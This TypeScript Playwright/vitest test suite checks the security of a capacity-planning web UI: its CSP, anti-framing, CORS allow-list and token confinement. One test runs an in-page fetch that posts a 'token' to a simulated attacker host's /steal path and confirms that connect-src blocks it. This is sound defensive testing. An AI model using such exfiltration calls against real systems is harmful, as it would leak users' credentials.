/**
 * The web page in real headless Chromium, served by the service at /ui: it
 * works over both the Connect protocol and gRPC-Web under its own strict CSP,
 * talks to nobody but its own origin (whatever ?api= says), cannot be framed,
 * and the API's CORS lets only listed origins call it from a browser.
 * Screenshots go to test-results/ (git-ignored).
 */
import { existsSync, mkdirSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { chromium, type Browser, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { uiDirectory } from "../../src/server/ui.js";
import { person, project, tenant } from "../helpers/ids.js";
import { startTestServer, type TestServer } from "../helpers/server.js";

const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const SHOTS = "test-results";

/** Another origin on its own port: answers every request with one HTML page and records what it was sent. */
interface Site {
  origin: string;
  /** Every request that reached it ("METHOD /path"). */
  requests: string[];
  close(): Promise<void>;
}

async function site(html: string, { welcomeEveryone = false } = {}): Promise<Site> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}${req.headers.authorization === undefined ? "" : " with a token"}`);
    req.resume();
    if (welcomeEveryone) {
      // An attacker's host lets any page send it anything, Authorization included.
      res.setHeader("access-control-allow-origin", "*");
      res.setHeader("access-control-allow-methods", "GET, POST");
      res.setHeader("access-control-allow-headers", req.headers["access-control-request-headers"] ?? "*");
    }
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" }).end(html);
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () =>
      new Promise((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

/** Console messages of a page that report a Content-Security-Policy violation. */
function cspViolations(page: Page): string[] {
  const seen: string[] = [];
  page.on("console", (m) => {
    if (/Content Security Policy/i.test(m.text())) seen.push(m.text());
  });
  return seen;
}

describe("the web UI in Chromium", () => {
  let browser: Browser;
  let server: TestServer;
  let allowed: Site;
  let refused: Site;
  let attacker: Site;

  beforeAll(async () => {
    const dir = uiDirectory();
    if (!existsSync(join(dir, "index.html"))) throw new Error(`no built UI in ${dir}: run npm run build:ui`);
    const plain = '<!doctype html><title>other origin</title><p id="marker">framed fine</p>';
    allowed = await site(plain);
    refused = await site(plain);
    attacker = await site(plain, { welcomeEveryone: true });
    server = await startTestServer("sqlite", { env: { CAPACITY_CORS_ORIGINS: allowed.origin } });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
      ],
    });
    mkdirSync(SHOTS, { recursive: true });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await Promise.all([allowed?.close(), refused?.close(), attacker?.close()]);
  });

  async function open(params: Record<string, string>): Promise<Page> {
    const page = await browser.newPage({ viewport: { width: 1200, height: 800 } });
    const q = new URLSearchParams({ from: "2027-03-01", to: "2027-03-31", ...params });
    await page.goto(`${server.baseUrl}/ui/?${q.toString()}`);
    return page;
  }

  async function fill(page: Page, projectId: string, start: string, end: string, pct: string): Promise<void> {
    await page.fill("#f-project", projectId);
    await page.fill("#f-start", start);
    await page.fill("#f-end", end);
    await page.fill("#f-pct", pct);
    await page.click("#save");
  }

  for (const transport of ["connect", "grpc-web"]) {
    it(`shows, creates, edits and confirms allocations over ${transport} without breaking its own CSP`, async () => {
      const t = tenant();
      const p = person();
      const page = await open({ transport, person: p });
      const violations = cspViolations(page);
      await page.fill("#token", await server.token(t));
      await page.click("#load");
      await expect.poll(() => page.textContent("#status")).toBe("0 allocation(s)");

      await fill(page, project(), "2027-03-01", "2027-03-20", "60");
      await expect.poll(() => page.textContent("#status")).toMatch(/^created cap_/);
      await fill(page, project(), "2027-03-10", "2027-03-31", "50");
      await expect.poll(() => page.locator("#rows tr").count()).toBe(2);
      // 10–20 March is booked 110%: it stands out.
      await expect.poll(() => page.locator(".seg.over").count()).toBe(1);
      expect(await page.locator(".seg.over").getAttribute("title")).toContain("2027-03-10 – 2027-03-20: 110% allocated");

      // Edit the first one down to 40%: nobody is over any more.
      await page.locator("#rows tr").first().locator("button.edit").click();
      await page.fill("#f-pct", "40");
      await page.click("#save");
      await expect.poll(() => page.textContent("#status")).toMatch(/^updated cap_/);
      await expect.poll(() => page.locator(".seg.over").count()).toBe(0);

      // Confirm it.
      await page.locator("#rows tr").first().locator("button.confirm").click();
      await expect.poll(() => page.textContent("#status")).toMatch(/^confirmed cap_/);
      await expect.poll(() => page.locator("#rows tr").first().textContent()).toContain("confirmed");

      // An over-allocating write with "refuse over-allocation" ticked is refused.
      await page.check("#f-reject");
      await fill(page, project(), "2027-03-15", "2027-03-16", "20");
      await expect.poll(() => page.textContent("#status")).toMatch(/^FailedPrecondition: person .* 110%/);
      await page.screenshot({ path: join(SHOTS, `ui-${transport}.png`), fullPage: true });

      const rows = (await server.db.knex("capacities").where({ tenant_id: t, person_id: p }).orderBy("period_start")) as Array<{
        allocated_bp: number;
        confirmed_by_id: string;
      }>;
      expect(rows.map((r) => [r.allocated_bp, r.confirmed_by_id !== ""])).toEqual([
        [4000, true],
        [5000, false],
      ]);
      // Styles and scripts all came from files: the CSP refused nothing.
      expect(violations).toEqual([]);
      await page.close();
    });
  }

  it("redirects /ui to /ui/ and serves the page with its CSP", async () => {
    const page = await browser.newPage();
    const res = await page.goto(`${server.baseUrl}/ui`);
    expect(res?.status()).toBe(200);
    expect(page.url()).toBe(`${server.baseUrl}/ui/`);
    expect(await page.title()).toBe("Capacity");
    expect(res?.headers()["content-security-policy"]).toContain("connect-src 'self'");
    expect(res?.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
    await page.close();
  });

  it("sends the pasted token to no host named by ?api=, only to its own origin", async () => {
    const t = tenant();
    const p = person();
    const page = await open({ api: attacker.origin, person: p });
    const violations = cspViolations(page);
    const elsewhere: string[] = [];
    page.on("request", (r) => {
      if (!r.url().startsWith(`${server.baseUrl}/`)) elsewhere.push(r.url());
    });
    await page.fill("#token", await server.token(t));
    await page.click("#load");
    await expect.poll(() => page.textContent("#status")).not.toMatch(/^(loading…)?$/);
    expect(attacker.requests).toEqual([]);
    expect(await page.textContent("#status")).toBe("0 allocation(s)");
    await fill(page, project(), "2027-03-01", "2027-03-02", "10");
    await expect.poll(() => page.textContent("#status")).toMatch(/^created cap_/);
    expect(await server.db.knex("capacities").where({ tenant_id: t }).count({ n: "*" })).toEqual([{ n: 1 }]);
    expect(elsewhere).toEqual([]);

    // Even script running in the page cannot reach another origin: connect-src 'self'.
    const outcome = await page.evaluate(async (url) => {
      try {
        await fetch(url, { method: "POST", body: "token", mode: "no-cors" });
        return "sent";
      } catch (err) {
        return String(err);
      }
    }, `${attacker.origin}/steal`);
    expect(outcome).toMatch(/TypeError/);
    await expect.poll(() => violations.some((v) => v.includes("connect-src"))).toBe(true);
    expect(attacker.requests).toEqual([]);
    await page.close();
  });

  it("cannot be framed by a page on another origin", async () => {
    const uiUrl = `${server.baseUrl}/ui/`;
    const framer = await site(
      `<!doctype html><title>framer</title>` +
        `<iframe name="ui" src="${uiUrl}"></iframe>` +
        // A control: a frameable page of yet another origin loads in the same spot.
        `<iframe name="control" src="${refused.origin}/"></iframe>`,
    );
    try {
      const page = await browser.newPage();
      const violations = cspViolations(page);
      const uiResponse = page.waitForResponse(uiUrl);
      await page.goto(framer.origin);
      expect((await uiResponse).status()).toBe(200); // served, but not shown
      const control = page.frame({ name: "control" })!;
      await expect.poll(() => control.textContent("#marker").catch(() => null)).toBe("framed fine");
      await expect.poll(() => violations.some((v) => v.includes("frame-ancestors"))).toBe(true);
      const ui = page.frame({ name: "ui" })!;
      expect(await ui.$("#token")).toBeNull();
      expect(await ui.title().catch(() => "")).not.toBe("Capacity");
      await page.screenshot({ path: join(SHOTS, "ui-framed.png") });
      await page.close();
    } finally {
      await framer.close();
    }
  });

  async function setCapacityFrom(origin: string, token: string, personId: string): Promise<string> {
    const page = await browser.newPage();
    await page.goto(`${origin}/`);
    const outcome = await page.evaluate(
      async ({ url, token, body }) => {
        try {
          const res = await fetch(url, {
            method: "POST",
            headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
            body: JSON.stringify(body),
          });
          return `status ${res.status}`;
        } catch (err) {
          return String(err);
        }
      },
      {
        url: `${server.baseUrl}/work.v1.CapacityService/SetCapacity`,
        token,
        body: { capacity: { personId, projectId: project(), periodStart: "2027-03-01", periodEnd: "2027-03-02", allocatedPct: 10 } },
      },
    );
    await page.close();
    return outcome;
  }

  it("lets a page on a listed origin call the API (CORS) and refuses one on another origin", async () => {
    const t = tenant();
    const token = await server.token(t);
    expect(await setCapacityFrom(allowed.origin, token, person())).toBe("status 200");
    expect(await server.db.knex("capacities").where({ tenant_id: t }).count({ n: "*" })).toEqual([{ n: 1 }]);

    const t2 = tenant();
    expect(await setCapacityFrom(refused.origin, await server.token(t2), person())).toMatch(/TypeError: Failed to fetch/);
    expect(await server.db.knex("capacities").where({ tenant_id: t2 }).count({ n: "*" })).toEqual([{ n: 0 }]);
  });
});
